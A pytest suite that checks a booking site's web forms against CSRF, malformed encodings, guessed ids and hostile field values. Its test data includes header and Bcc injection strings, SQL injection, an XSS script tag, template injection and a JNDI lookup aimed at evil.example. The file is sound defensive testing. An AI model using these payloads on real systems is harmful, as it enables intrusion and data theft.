"""Every form of the pages under hostile hands: forms of others, wrong encodings, guessed ids, evil fields.

The cases are by route: a form that is added without its cases fails here.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from datetime import timedelta
from typing import NamedTuple
from urllib.parse import quote, urlencode

import psycopg
import pytest
from starlette.routing import Route

from central_server.web import routes
from central_server.web.forms import BODY_MAX, FIELDS_MAX
from central_server.web.site import HERE
from tests.central_server.pages import server
from tests.central_server.pages.server import NOW, OFFICE, TICKET, Client, Pages
from tests.central_server.pages.test_booking import SLOTS, TARO, TUESDAY, booked, held
from tests.central_server.pages.test_safety import EVIL, harmless

pytestmark = pytest.mark.slow
URLENCODED = "application/x-www-form-urlencoded"
NOBODY = "a" * 16
MORE_EVIL = (
    "x\nX-Injected: 1",
    "x\rLocation: https://evil.example/",
    "\u2028\u2029\x85",
    "\ud83d",
    "admin'--",
    "1; SELECT pg_sleep(30)",
    "\\x27 UNION SELECT key_sealed FROM contacts",
    "${jndi:ldap://evil.example/a}",
    "-1",
    "99999999999999999999",
    "٣٣٣",
    "2026-04-07\x00",
    "9999-12-31",
    "0001-01-01",
    "a@b.example\r\nBcc: c@d.example",
    "<script>alert(1)</script>@b.example",
)


class Form(NamedTuple):
    """`begin` makes what the form is about and gives its address and the page that shows it. `right`: fields with
    which it does something; `wrong`: with which it does nothing, whatever one of them is."""

    begin: Callable[[Client, Pages], tuple[str, str]]
    right: Mapping[str, str] = {}
    wrong: Mapping[str, str] = {}


def _ticket(visitor: Client, pages: Pages, state: str, end: str) -> tuple[str, str]:
    server.show(pages.dsn, server.board(state=state), NOW)
    return f"/t/{TICKET}/{end}", f"/t/{TICKET}/cancel" if end == "cancel" else f"/t/{TICKET}"


def _own(visitor: Client, end: str, page: str = "") -> tuple[str, str]:
    path = held(visitor) if end in ("confirm", "release") else booked(visitor)
    return f"{path}/{end}", path + page


FORMS: Mapping[str, Form] = {
    "/t/{ticket}/answer": Form(
        lambda visitor, pages: _ticket(visitor, pages, "done", "answer"), {"answer": "good"}, {"answer": "best"}
    ),
    "/t/{ticket}/cancel": Form(lambda visitor, pages: _ticket(visitor, pages, "waiting", "cancel")),
    "/b/{office}/{booking}/confirm": Form(
        lambda visitor, pages: _own(visitor, "confirm"), TARO, {"name": "", "mail": "taro@", "phone": "1"}
    ),
    "/b/{office}/{booking}/release": Form(lambda visitor, pages: _own(visitor, "release")),
    "/b/{office}/{booking}/cancel": Form(lambda visitor, pages: _own(visitor, "cancel", "/cancel")),
    "/b/{office}/{booking}/change": Form(
        lambda visitor, pages: _own(visitor, "change", "/change?day=2026-04-08&at=540"),
        {"day": "2026-04-08", "at": "540"},
        {"day": "2026-04-08", "at": "541"},
    ),
    "/{office}/book/{service}": Form(
        lambda visitor, pages: (SLOTS, TUESDAY),
        {"day": "2026-04-07", "at": "620"},
        {"day": "2026-04-07", "at": "621"},
    ),
    "/{office}/lost": Form(
        lambda visitor, pages: (f"/{OFFICE}/lost", f"/{OFFICE}/lost"),
        wrong={"code": "0000000000000000", "reach": "090-0000-0009"},
    ),
}
DOES_NOTHING = frozenset({"/{office}/lost"})
"""It only looks."""
each_form = pytest.mark.parametrize("route", FORMS)


def state(dsn: str) -> object:
    """All that a form can change, but for what is counted of those who send them."""
    asked = (
        "SELECT booking, state, start_min, day, replaced_by, cancelled_by FROM bookings ORDER BY booking",
        "SELECT contact FROM contacts ORDER BY contact",
        "SELECT seq FROM facts ORDER BY seq",
        "SELECT count(*) FROM messages",
        "SELECT answer, times FROM survey_answers",
        "SELECT ticket, refused_at FROM give_backs",
        "SELECT count(*) FROM slot_days",
    )
    with psycopg.connect(dsn) as connection:
        return [connection.execute(one.encode()).fetchall() for one in asked]


def token_of(visitor: Client, shown: str) -> str:
    found = re.search(r'name="token" value="(\w+)"', visitor.get(shown).text)
    assert found is not None
    return found[1]


# --- there are cases for each ----------------------------------------------------------------------------------------


def test_every_form_has_its_cases(pages: Pages) -> None:
    assert pages.site is not None
    posts = {one.path for one in routes.of_site(pages.site) if isinstance(one, Route) and "POST" in (one.methods or ())}
    assert posts == set(FORMS)


SHOWN = {
    "{{ own.path }}/confirm": "/b/{office}/{booking}/confirm",
    "{{ own.path }}/release": "/b/{office}/{booking}/release",
    "{{ own.path }}/cancel": "/b/{office}/{booking}/cancel",
    "{{ path }}/answer": "/t/{ticket}/answer",
    "{{ path }}/cancel": "/t/{ticket}/cancel",
    "{{ base }}/lost": "/{office}/lost",
    "{{ path }}": "/{office}/book/{service}",
}
"""Of slots.html also the change of a booking."""
OF_CERTIFICATES = "{{ visit.request.url.path }}"
"""Where a city gives them: its cases are in ../certificates/test_verify_page.py."""


def test_every_form_on_a_page_leads_to_one_of_them_and_holds_a_token() -> None:
    for template in (HERE / "templates").glob("*.html"):
        for head, body in re.findall(r"(<form[^>]*>)(.*?)</form>", template.read_text(), re.S):
            action = re.search(r'action="([^"]+)"', head)
            assert action is not None, template.name
            if 'method="post"' not in head:
                # A search only looks, and its address may be kept.
                assert action[1] == "{{ base }}/find" and "token" not in body, template.name
                continue
            assert action[1] == OF_CERTIFICATES or SHOWN[action[1]] in FORMS, template.name
            assert 'name="{{ token_field }}" value="{{ visit.token() }}"' in body, template.name


@each_form
def test_it_works_for_whom_it_is_meant(visitor: Client, pages: Pages, database: str, route: str) -> None:
    """Or all that follows would be refused for another reason."""
    form = FORMS[route]
    address, shown = form.begin(visitor, pages)
    before = state(database)
    sent = {"token": token_of(visitor, shown), **form.right}
    got = visitor.post(address, sent)
    assert got.status == (303 if route not in DOES_NOTHING else 404), got.text
    assert (state(database) != before) == (route not in DOES_NOTHING)


# --- forms of others -------------------------------------------------------------------------------------------------


@each_form
def test_a_form_that_is_not_this_visitors_own_does_nothing(
    visitor: Client, pages: Pages, database: str, route: str
) -> None:
    form = FORMS[route]
    address, shown = form.begin(visitor, pages)
    token, others = token_of(visitor, shown), token_of(pages.client(), f"/{OFFICE}/lost")
    before = state(database)
    for given in ({}, {"token": ""}, {"token": others}, {"token": "0" * 64}, {"token": token[:-1]}, {"token": "ä"}):
        got = visitor.post(address, {**form.right, **given})
        assert got.status == 403, (given, got.status)
        harmless(got)
    for headers in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ):
        assert visitor.post(address, {**form.right, "token": token}, **headers).status == 403, headers
    # The token in the address, or in a header, is none.
    assert visitor.post(f"{address}?token={token}", form.right).status == 403
    assert visitor.post(address, form.right, **{"X-CSRF-Token": token}).status == 403
    visitor.cookies.pop(("visitor", "/"))
    assert visitor.post(address, {**form.right, "token": token}).status == 403, "without its cookie"
    assert state(database) == before


# --- encodings -------------------------------------------------------------------------------------------------------


@each_form
def test_what_is_no_form_is_refused(visitor: Client, pages: Pages, database: str, route: str) -> None:
    form = FORMS[route]
    address, shown = form.begin(visitor, pages)
    fields = {"token": token_of(visitor, shown), **form.right}
    right = urlencode(fields).encode()
    before = state(database)
    multipart = b"".join(
        f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    )
    for body, kind, status in (
        (right, "", 403),
        (right, "text/plain", 403),
        (right, "application/json", 403),
        (right, "multipart/form-data; boundary=x", 403),
        (multipart + b"--x--\r\n", "multipart/form-data; boundary=x", 403),
        (right.decode().encode("utf-16"), URLENCODED, 403),
        (right.decode().encode("utf-16"), f"{URLENCODED}; charset=utf-16", 403),
        (right + b"&name=%ff%fe", URLENCODED, 403),
        (right + b"&name=%ed%a0%80", URLENCODED, 403),
        (right + "&name=見本".encode(), URLENCODED, 403),
        (right + "&name=見本".encode("shift_jis"), URLENCODED, 403),
        (right + b"".join(b"&f%d=x" % n for n in range(FIELDS_MAX)), URLENCODED, 403),
        (right + b"&name=" + b"a" * BODY_MAX, URLENCODED, 413),
        (b"", URLENCODED, 403),
        (b"\x00" * 100, URLENCODED, 403),
        (b"&" * 5_000, URLENCODED, 403),
        (b"token", URLENCODED, 403),
    ):
        got = visitor.raw("POST", address, body, {"Content-Type": kind} if kind else {})
        assert got.status == status, (body[:60], kind, got.status)
        harmless(got)
    for method in ("PUT", "DELETE", "PATCH"):
        assert visitor.raw(method, address, right, {"Content-Type": URLENCODED}).status in (404, 405)
    assert state(database) == before
    assert visitor.raw("POST", address, right, {"Content-Type": f"{URLENCODED}; charset=UTF-8"}).status in (303, 404)


@each_form
def test_of_a_field_that_comes_twice_the_first_counts(visitor: Client, pages: Pages, database: str, route: str) -> None:
    form = FORMS[route]
    address, shown = form.begin(visitor, pages)
    token, before = token_of(visitor, shown), state(database)
    pairs = [("token", "0" * 64), ("token", token), *form.right.items()]
    got = visitor.raw("POST", address, urlencode(pairs).encode(), {"Content-Type": URLENCODED})
    assert got.status == 403 and state(database) == before


# --- fields ----------------------------------------------------------------------------------------------------------


@each_form
def test_no_field_gets_out_of_its_place(visitor: Client, pages: Pages, database: str, route: str) -> None:
    """Whatever stands in it: no error of ours, no header of theirs, no script, and nothing done."""
    form = FORMS[route]
    address, shown = form.begin(visitor, pages)
    token, before = token_of(visitor, shown), state(database)
    fields = tuple(form.wrong) or ("strange",)
    for number, evil in enumerate((*EVIL, *MORE_EVIL)):
        told = evil.encode("utf-8", "surrogatepass")
        for field in fields:
            sent: dict[str, str | bytes] = {"token": token, **form.wrong, field: told}
            if not form.wrong:
                # It has no field but the token, and would do what it is for.
                sent["token"] = told
            got = visitor.raw("POST", address, urlencode(sent).encode(), {"Content-Type": URLENCODED})
            harmless(got)
            assert got.status in (303, 403, 404, 409, 413, 422, 429), (field, evil[:30], got.status)
            assert not {"x-injected", "bcc"} & set(got.headers), (field, evil)
            assert got.headers.get("location", address).startswith(("/b/", "/t/", f"/{OFFICE}/")), (field, evil)
            assert "evil.example" not in got.headers.get("location", "")
        if number % 4 == 0:
            _again(pages, database)
    assert state(database) == before


def _again(pages: Pages, database: str) -> None:
    """The limits are for other tests: here each case shall reach the form itself."""
    with psycopg.connect(database) as connection:
        connection.execute("TRUNCATE page_limits, tries")
    pages.forget()


@each_form
def test_addresses_with_guessed_and_broken_ids_lead_nowhere(
    visitor: Client, pages: Pages, database: str, route: str
) -> None:
    form = FORMS[route]
    address, shown = form.begin(visitor, pages)
    token, before = token_of(visitor, shown), state(database)
    ids = (NOBODY, "x", "a" * 500, "' OR '1'='1", "../lost", "\x00", "%00", "ticket", "{{7*7}}", "見本", "\u202e")
    for name in re.findall(r"{(\w+)}", route):
        for guess in ids:
            path = _with(route, address, name, quote(guess, safe=""))
            got = visitor.post(path, {**form.right, "token": token})
            harmless(got)
            assert got.status in (400, 404, 405), (path, got.status)
        _again(pages, database)
    assert state(database) == before


def _with(route: str, address: str, name: str, other: str) -> str:
    """The address with something else in the place of this part of it."""
    parts = zip(route.split("/"), address.split("/"), strict=True)
    return "/".join(other if here == f"{{{name}}}" else there for here, there in parts)


@pytest.mark.parametrize("route", [route for route in FORMS if route.startswith("/b/")])
def test_somebody_elses_id_is_of_no_use(visitor: Client, pages: Pages, database: str, route: str) -> None:
    """A stranger with a token of their own and the address of another's booking, but without its key. (The id of a
    ticket is itself the secret of its slip.)"""
    form = FORMS[route]
    address, _ = form.begin(visitor, pages)
    before = state(database)
    stranger = pages.client()
    token = token_of(stranger, f"/{OFFICE}/lost")
    assert stranger.post(address, {**form.right, "token": token}).status == 404
    path = address.rpartition("/")[0]
    for key in ("", "k" * 43, "' OR '1'='1", "k" * 5_000, "\x7f" * 43):
        stranger.cookies["key", path] = key
        got = stranger.post(address, {**form.right, "token": token})
        assert got.status in (400, 404, 431), (key[:20], got.status)
    assert state(database) == before


@pytest.mark.parametrize("route", [route for route in FORMS if route != "/{office}/book/{service}"])
def test_sent_twice_it_is_done_once(visitor: Client, pages: Pages, database: str, route: str) -> None:
    """But for a time that is held: a second one is another, limited, and free again after ten minutes."""
    form = FORMS[route]
    address, shown = form.begin(visitor, pages)
    sent = {"token": token_of(visitor, shown), **form.right}
    visitor.post(address, sent)
    once = state(database)
    for minutes in (0, 1):
        pages.now = NOW + timedelta(minutes=minutes)
        harmless(visitor.post(address, sent))
    assert state(database) == once
